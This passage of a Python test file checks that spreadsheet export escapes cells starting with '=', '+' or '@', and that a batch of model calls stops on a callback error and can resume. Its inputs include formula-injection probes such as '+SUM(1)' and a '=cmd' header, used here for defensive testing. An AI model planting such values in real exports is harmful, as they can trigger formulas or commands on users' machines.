    assert cells["q"] == "'+SUM(1)" and cells["answer"] == "'@A1" and cells["expected"] == "'@A1"
    assert cells["'=cmd"] == "-5"  # a number, not a formula
    assert not [c for c in row if c.startswith(("=", "+", "@"))]
    (line,) = (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()
    record = json.loads(line)
    assert record["text"] == link and record["values"]["q"] == "+SUM(1)"


async def test_a_failing_callback_stops_the_batch_and_leaves_it_resumable(api, connections):
    spec = BatchSpec(prompt="{{q}}", parameters={"max_tokens": 1, "stream": False},
                     variants=[CompareTarget("p", "m")], concurrency=2)  # fmt: skip
    batch = BatchRun(spec, rows(6))

    def on_cell(cell):
        if cell.state == OK and cell.row == 2:
            raise RuntimeError("a bug in the window")

    profiles = {"p": profile_for(api, "p")}
    with pytest.raises(RuntimeError, match="a bug in the window"):
        await batch.run(Runner(connections), profiles, on_cell=on_cell)
    progress = batch.progress()
    assert progress.running == 0 and not progress.active
    assert {c.state for c in batch.cells} <= {OK, PENDING}
    progress = await batch.run(Runner(connections), profiles)
    assert progress.finished and all(c.state == OK for c in batch.cells)
